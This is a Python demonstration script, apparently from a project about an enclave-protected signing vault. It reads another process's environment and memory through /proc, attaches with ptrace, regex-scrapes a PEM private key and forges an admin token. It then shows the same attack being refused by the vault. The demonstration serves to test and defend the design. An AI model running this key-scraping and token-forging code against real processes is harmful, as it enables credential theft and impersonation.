# SPDX-License-Identifier: Apache-2.0
"""What somebody can do who runs code as the same user: read the key of a process, and forge tokens.

    python attack.py          the same attack on a process that holds its key, and on the vault
    python attack.py PID      on a process of your own, such as the vault of a running service

Started by root, the first form goes on as an ordinary user: root reads every process.
"""

from __future__ import annotations

import ctypes
import os
import re
import subprocess
import sys
import warnings
from collections.abc import Callable
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    load_pem_private_key,
    load_pem_public_key,
)

import hotcalls

HERE = Path(__file__).resolve().parent
NOBODY = 65534
PEM = re.compile(
    rb"-----BEGIN PRIVATE KEY-----\n[A-Za-z0-9+/=\n]{32,4096}-----END PRIVATE KEY-----"
)
#: Of one mapping, this much is searched; a key lies in the heap, which is smaller.
SEARCHED = 64 << 20
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def environment(pid: int) -> bytes:
    """Read the environment it was started with."""
    return Path(f"/proc/{pid}/environ").read_bytes()


def memory(pid: int) -> bytes:
    """Read all that it can write to: heap, stacks, data."""
    found = []
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, rights, *_ = line.split()
            start, end = (int(each, 16) for each in span.split("-"))
            if rights.startswith("rw"):
                try:
                    found.append(os.pread(file.fileno(), min(end - start, SEARCHED), start))
                except OSError:
                    continue  # a mapping that the kernel itself does not read, such as [vvar]
    return b"".join(found)


def trace(pid: int) -> bytes:
    """Attach to it as a debugger does, from where every register and byte can be changed."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0x40000000)  # __WALL: a process that is not a child
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return b""


def descriptors(pid: int) -> bytes:
    """List what files it has open."""
    return " ".join(os.listdir(f"/proc/{pid}/fd")).encode()


WAYS: dict[str, Callable[[int], bytes]] = {
    "read /proc/{}/environ": environment,
    "read /proc/{}/mem": memory,
    "list /proc/{}/fd": descriptors,
    "ptrace({})": trace,
}


def attack(pid: int) -> tuple[int, bytes | None]:
    """Try everything on a process; return how much succeeded, and a private key if one came out."""
    succeeded, key = 0, None
    for text, way in WAYS.items():
        try:
            data = way(pid)
        except OSError as error:
            outcome = f"refused: {error.strerror}"
        else:
            succeeded += 1
            found = PEM.search(data)
            key = found[0] if found else key
            outcome = "SUCCEEDED" + (", and here is a private key" if found else "")
        print(f"    {text.format(pid):28} {outcome}")
    return succeeded, key


def forge(pem: bytes, public: bytes) -> None:
    """Sign what no vault would sign, and check it as a service would."""
    token = b'{"sub":"mallory","scope":"admin"}'
    load_pem_public_key(public).verify(load_pem_private_key(pem, None).sign(token), token)
    print(f"    forged, and the service's public key says it is genuine: {token.decode()}")


def attack_process_with_a_key() -> bool:
    """Attack plain.py; return whether its key came out."""
    pem = Ed25519PrivateKey.generate().private_bytes(
        Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()
    )
    with subprocess.Popen(
        [sys.executable, HERE / "plain.py"],
        env={**os.environ, "SIGNING_KEY": pem.decode()},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    ) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        public = b"".join(iter(process.stdout.readline, b"\n"))
        print(f"A process that holds its key, pid {process.pid}:")
        _, key = attack(process.pid)
        if key is not None:
            forge(key, public)
        process.stdin.close()
    return key is not None


def attack_vault() -> bool:
    """Attack the enclave; return whether everything was refused and it still works."""
    with hotcalls.launch(HERE / "vault.py") as vault:
        before = vault.public_key()
        print(f"The vault, pid {vault.pid}:")
        succeeded, _ = attack(vault.pid)
        return succeeded == 0 and vault.public_key() == before


def show_what_root_can() -> None:
    """Attack the enclave as root."""
    warnings.filterwarnings("ignore", message="this program runs as root")
    with hotcalls.launch(HERE / "vault.py") as vault:
        print(f"Root, on the vault, pid {vault.pid} (no enclave of this kind is safe from root):")
        attack(vault.pid)


def go_on_as_nobody() -> int:
    """Run this program as an ordinary user, with an interpreter that this user can start."""
    code = "import cryptography, hotcalls, sys; print(sys.implementation.cache_tag)"
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    for python in (sys.executable, f"/usr/local/bin/{version}", f"/usr/bin/{version}"):
        options = {
            "env": {**os.environ, "PYTHONPATH": str(Path(hotcalls.__file__).parents[1])},
            "user": NOBODY,
            "group": NOBODY,
            "extra_groups": [],
            "cwd": HERE,
        }
        try:
            check = subprocess.run(
                [python, "-c", code], capture_output=True, text=True, check=False, **options
            )
            if check.stdout.strip() == sys.implementation.cache_tag:
                return subprocess.run([python, __file__], check=False, **options).returncode
        except OSError:
            continue
    print(
        f"uid {NOBODY} cannot start {sys.executable} with hotcalls and cryptography, or not read "
        f"{HERE}: put this folder and a virtual environment where everybody may read",
        file=sys.stderr,
    )
    return 1


def main() -> int:
    """Run; 0 when the vault held and the other process did not."""
    if len(sys.argv) == 2 and sys.argv[1].isdigit():
        if os.geteuid() == 0:
            print("this runs as root, which reads every process")
        return 1 if attack(int(sys.argv[1]))[0] else 0
    if len(sys.argv) != 1:
        print(__doc__, file=sys.stderr)
        return 2
    if os.geteuid() == 0:
        show_what_root_can()
        print(f"\nFrom here on as uid {NOBODY}, host and attacker alike:\n", flush=True)
        return go_on_as_nobody()
    stolen = attack_process_with_a_key()
    held = attack_vault()
    print("The vault kept its key." if held else "THE VAULT COULD BE READ.")
    return 0 if stolen and held else 1


if __name__ == "__main__":
    sys.exit(main())
